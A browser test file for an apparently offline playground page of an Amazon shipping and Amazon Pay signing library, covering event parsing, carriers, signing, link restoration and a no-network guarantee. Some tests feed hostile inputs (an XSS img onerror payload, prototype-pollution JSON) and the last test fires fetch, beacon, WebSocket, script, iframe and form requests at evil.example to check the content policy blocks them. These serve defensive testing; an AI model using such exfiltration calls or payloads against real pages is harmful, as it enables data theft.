/** The playground: what it says is what the library says, a link restores a case, and nothing leaves the page. */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { pathToFileURL } from 'node:url';
import { useBrowser } from './browser.mjs';

const { open, url } = useBrowser();

/** @param {string} [fragment] @param {import('./browser.mjs').OpenOptions} [options] */
async function playground(fragment = '', options = {}) {
  const page = await open(`playground.html${fragment}`, options);
  await page.waitForSelector('#playground-app[data-ready]');
  /** The result of the shown pane, when it contains some words. @param {string | RegExp} words */
  page.result = async (words) => {
    const pattern = typeof words === 'string' ? words : words.source;
    await page.waitForFunction(
      (/** @type {string} */ source) =>
        new RegExp(source).test(document.querySelector('.pg-pane:not([hidden]) .pg-result')?.textContent ?? ''),
      pattern,
    );
    return page.$eval('.pg-pane:not([hidden]) .pg-result', (/** @type {Element} */ result) => result.textContent);
  };
  page.verdicts = () =>
    page.$$eval('.pg-pane:not([hidden]) .pg-verdict', (/** @type {Element[]} */ all) => all.map(({ textContent }) => textContent));
  return page;
}

describe('an event', () => {
  const samples = {
    'Buy with Prime, from EventBridge': ['✓ Buy with Prime · DELIVERY_IN_TRANSIT'],
    'Buy with Prime, body of a webhook': ['✓ Buy with Prime · DELIVERY_IN_TRANSIT'],
    'Buy with Prime, old event name': ['✓ Buy with Prime · DELIVERY_IN_TRANSIT'],
    'Amazon Shipping, undeliverable (NDR)': ['✓ Amazon Shipping · ndr'],
    'Amazon Shipping, tracking': ['✓ Amazon Shipping · tracking'],
    'A queue with events of both': [
      '✓ a batch of 3 events',
      '✓ Buy with Prime · DELIVERY_IN_TRANSIT',
      '✓ Amazon Shipping · ndr',
      '✓ Buy with Prime · REFUND_REQUESTED',
    ],
    'From SNS through SQS': ['✓ Buy with Prime · DELIVERY_IN_TRANSIT'],
    'A type that is new': ['! unknown type: DELIVERY_TELEPORTED'],
    'Damaged: no tracking id': ['✗ ValidationError · VALIDATION'],
    'Damaged: a path without its id': ['✗ ValidationError · VALIDATION'],
    'Damaged: an input transformer took the envelope': ['✗ ValidationError · VALIDATION'],
  };

  test('of every sample is recognised, or the error is shown', async () => {
    const page = await playground();
    assert.deepEqual(
      await page.$$eval('.pg-samples option:not(:first-child)', (all) => all.map(({ textContent }) => textContent)),
      Object.keys(samples),
    );
    for (const [label, verdicts] of Object.entries(samples)) {
      await page.fill('#event-text', ' ');
      await page.result(/Paste an event/);
      await page.selectOption('.pg-samples', { label });
      await page.waitForFunction(() => document.querySelector('.pg-pane:not([hidden]) .pg-verdict'));
      assert.deepEqual([label, await page.verdicts()], [label, verdicts]);
    }
    assert.deepEqual(page.problems, []);
  });

  test('that is undeliverable comes with what Amazon advises', async () => {
    const page = await playground();
    await page.selectOption('.pg-samples', { label: 'Amazon Shipping, undeliverable (NDR)' });
    assert.match(await page.result(/Amazon advises/), /RESCHEDULE with rescheduleDate.*Feedback is due/s);
  });

  for (const [name, text] of Object.entries({
    'a web page': '<html>',
    'cut JSON': '{"detail-type": "NDR Ev',
    nothing: '[]',
    'a number': '7',
    'names of Object.prototype': '{"detail-type":"constructor","detail":{"__proto__":1}}',
    markup: '{"detail-type":"<img src=x onerror=alert(1)>"}',
    'deep nesting': '['.repeat(5000),
  })) {
    test(`that is ${name} breaks nothing`, async () => {
      const page = await playground();
      await page.fill('#event-text', text);
      await page.waitForTimeout(300);
      assert.equal((await page.verdicts()).length, 1);
      assert.equal(await page.$$eval('#playground-app img', (all) => all.length), 0);
      assert.deepEqual(page.problems, []);
    });
  }
});

test('a resource path is taken apart, and a bad one explained', async () => {
  const page = await playground('#path');
  assert.match(await page.result(/4 steps|3 steps/), /Order322-ABC1-AAAAAA/);
  await page.fill('#path-path', 'businessProduct/bp/locker/L7');
  assert.match(await page.result(/not documented/), /locker, not documentedL7/);
  await page.fill('#path-path', 'order/o');
  assert.match(await page.result(/ValidationError/), /businessProduct/);
});

test('a carrier is what findCarrier() says', async () => {
  // By its file: this folder is a package of its own, in which `waybill` is not installed.
  const { findCarrier } = await import(pathToFileURL(join(import.meta.dirname, '../../dist/amazonpay/index.js')).href);
  const page = await playground('#carrier');
  const signs = { found: '✓', likely: '!', ambiguous: '!', unsupported: '✗', unknown: '✗' };
  for (const name of ['DHL', 'Deutsche Post DHL', 'Royal Mail', 'UPS Netherlands', 'xyzzy']) {
    await page.fill('#carrier-name', ' ');
    await page.result(/Type a name/);
    await page.fill('#carrier-name', name);
    await page.waitForSelector('.pg-pane:not([hidden]) .pg-verdict');
    const { outcome, code } = findCarrier(name);
    assert.deepEqual([name, await page.verdicts()], [name, [`${signs[outcome]} ${code ? `found: ${code}` : outcome}`]]);
  }
});

test('a pattern has every name of the chosen kinds', async () => {
  const page = await playground('#pattern');
  await page.check('#pattern-kinds-REFUND_REQUESTED');
  await page.uncheck('#pattern-kinds-DELIVERY_IN_TRANSIT');
  // Not just the name: it is there before the other one is gone.
  assert.match(await page.result(/\[\s+"REFUND_REQUESTED"\s+\]/), /"detail-type": \[\s+"REFUND_REQUESTED"\s+\]/);
  await page.uncheck('#pattern-kinds-REFUND_REQUESTED');
  await page.selectOption('#pattern-format', 'cdk');
  await page.fill('#pattern-source', 'aws.partner/buywithprime/my-source');
  assert.match(await page.result(/my-source/), /Every event of Buy with Prime/);
});

test('a reason without advice says that every action is possible', async () => {
  const page = await playground('#ndr');
  await page.result(/advised: RESCHEDULE/);
  await page.selectOption('#ndr-reason', 'Bad weather');
  assert.match(await page.result(/no advice/), /returnToOrigin/);
  await page.selectOption('#ndr-reason', '');
  await page.fill('#ndr-due', 'tomorrow');
  assert.match(await page.result(/not a time with an offset/), /gives no reason/);
});

describe('signing', () => {
  const CANONICAL = `POST
/v2/deliveryTrackers

accept:application/json
content-type:application/json
x-amz-pay-date:20260115T101530Z
x-amz-pay-host:pay-api.amazon.com
x-amz-pay-region:na

accept;content-type;x-amz-pay-date;x-amz-pay-host;x-amz-pay-region
f58aa42cc2143383ad2c34c05d0addf1dc1dcadd1d2b4d4dbfec47335ea81f54`;
  const HASH = '39ec317bb918945a92df503e0b8187eabf005122bf305ea96f1152fa6c440b4d';

  test('shows the canonical request without a key', async () => {
    const page = await playground('#sign');
    const text = await page.result(/String to sign/);
    assert.ok(text.includes(CANONICAL));
    assert.ok(text.includes(HASH));
  });

  test('compares with a canonical request, and marks the first difference', async () => {
    const page = await playground('#sign');
    await page.fill('#sign-theirs', CANONICAL);
    await page.result(/byte for byte/);
    await page.fill('#sign-theirs', CANONICAL.replace('/v2/', '/live/v2/'));
    assert.match(await page.result(/first difference/), /line 2, character 2/);
    assert.deepEqual(await page.$$eval('.pg-compare mark', (all) => all.map(({ textContent }) => textContent)), [
      'v2/deliveryTrackers',
      'live/v2/deliveryTrackers',
    ]);
    await page.fill('#sign-theirs', CANONICAL.split('\n').slice(0, 4).join('\n'));
    assert.match(await page.result(/line 5/), /ends here/);
  });

  test("compares with Amazon's message", async () => {
    const page = await playground('#sign');
    const message = (/** @type {string} */ hash) =>
      `Unable to verify signature, signing String [AMZN-PAY-RSASSA-PSS-V2\n${hash}], signature [abc]`;
    await page.fill('#sign-theirs', message(HASH));
    await page.result(/the same string to sign/);
    await page.fill('#sign-theirs', message(HASH.replace('3', '4')));
    await page.result(/another hash/);
  });

  test('with a key made in the page: the signature verifies', async () => {
    const page = await playground('#sign');
    await page.click('text=Make a key in this page');
    const text = await page.result(/public half/);
    const [, signature = ''] = /Signature=([\w+/=]+)/.exec(text) ?? [];
    const [pem = ''] = /-----BEGIN PUBLIC KEY-----[\s\S]*?-----END PUBLIC KEY-----/.exec(text) ?? [];
    const { createPublicKey, verify, constants } = await import('node:crypto');
    const key = { key: createPublicKey(pem), padding: constants.RSA_PKCS1_PSS_PADDING, saltLength: 32 };
    assert.ok(verify('sha256', Buffer.from(`AMZN-PAY-RSASSA-PSS-V2\n${HASH}`), key, Buffer.from(signature, 'base64')));
  });

  test('with a key that is none: the error says so', async () => {
    const page = await playground('#sign');
    await page.fill('#sign-key', 'not a key');
    assert.match(await page.result(/ConfigurationError/), /privateKey/);
    await page.fill('#sign-key', '');
    await page.fill('#sign-url', 'nonsense');
    await page.result(/Invalid URL/);
  });
});

describe('the address', () => {
  test('restores a case in another browser', async () => {
    const first = await playground('#carrier');
    await first.fill('#carrier-name', 'Ärger & Söhne <UPS>');
    await first.waitForFunction(() => location.hash.includes('='));
    // The address follows the fields after a moment.
    const { hash: before } = new URL(first.url());
    await first.fill('#carrier-country', 'DE');
    await first.waitForFunction((/** @type {string} */ old) => location.hash !== old, before);
    await first.result(/unknown|likely|ambiguous/);
    const { hash } = new URL(first.url());
    const second = await playground(hash);
    assert.deepEqual(
      [await second.inputValue('#carrier-name'), await second.inputValue('#carrier-country')],
      ['Ärger & Söhne <UPS>', 'DE'],
    );
    assert.equal(await second.getAttribute('#tab-carrier', 'aria-selected'), 'true');
  });

  test('never contains the key, and neither does any storage', async () => {
    const page = await playground('#sign');
    await page.click('text=Make a key in this page');
    await page.result(/public half/);
    await page.selectOption('#sign-region', 'eu');
    await page.click('text=Copy a link to this case');
    await page.waitForFunction(() => location.hash.includes('='));
    const key = await page.inputValue('#sign-key');
    assert.match(key, /BEGIN PRIVATE KEY/);
    const stored = await page.evaluate(async () => [
      location.href,
      document.cookie,
      JSON.stringify(localStorage),
      JSON.stringify(sessionStorage),
      (await indexedDB.databases()).length,
    ]);
    assert.ok(stored[0].length < 200, stored[0]);
    assert.deepEqual(stored.slice(1), ['', '{}', '{}', 0]);
    const other = await playground(new URL(page.url()).hash);
    assert.deepEqual([await other.inputValue('#sign-region'), await other.inputValue('#sign-key')], ['eu', '']);
  });

  for (const fragment of ['#sign=AAAA', '#event=%%%', '#nothing', '#constructor=x', `#event=${'A'.repeat(50_000)}`, '#']) {
    test(`${fragment.slice(0, 20)} shows a pane with its initial values`, async () => {
      const page = await playground(fragment);
      assert.equal(await page.$$eval('.pg-pane:not([hidden])', (all) => all.length), 1);
      assert.deepEqual(page.problems, []);
    });
  }
});

describe('nothing leaves the page', () => {
  test('while everything is used: no request at all', async () => {
    const page = await playground();
    page.requests.length = 0;
    for (const label of ['A queue with events of both', 'Damaged: no tracking id']) await page.selectOption('.pg-samples', { label });
    await page.fill('#event-text', '{"detail-type":"NDR Events","detail":{"trackingId":"1","url":"https://evil.example/x.png"}}');
    await page.click('#tab-carrier');
    await page.fill('#carrier-name', 'DHL');
    await page.click('#tab-sign');
    await page.click('text=Make a key in this page');
    await page.result(/public half/);
    for (const pane of ['pattern', 'path', 'ndr', 'event']) await page.click(`#tab-${pane}`);
    await page.click('text=Copy a link to this case');
    await page.waitForTimeout(500);
    assert.deepEqual(page.requests, []);
  });

  test('not even on purpose: the policy refuses every way out', async () => {
    const page = await playground();
    page.requests.length = 0;
    const refused = await page.evaluate(async (/** @type {string} */ base) => {
      /** @type {string[]} */
      const blocked = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => blocked.push(effectiveDirective));
      await fetch(`${base}steal?here`).catch(() => undefined);
      await fetch('https://evil.example/').catch(() => undefined);
      navigator.sendBeacon('https://evil.example/');
      try {
        new WebSocket('wss://evil.example/');
      } catch {
        // Some versions throw.
      }
      new EventSource('https://evil.example/');
      const request = new XMLHttpRequest();
      request.open('GET', `${base}steal`);
      request.send();
      new Image().src = 'https://evil.example/x.png';
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js';
      const frame = Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' });
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
      document.body.append(script, frame, form);
      form.submit();
      // A busy browser reports late; what it does not report in time, it has not refused.
      for (let round = 0; round < 100 && new Set(blocked).size < 5; round += 1) await new Promise((resolve) => setTimeout(resolve, 100));
      return [...new Set(blocked)].sort();
    }, url());
    assert.deepEqual(page.requests, []);
    assert.deepEqual(refused, ['connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-elem']);
  });
});
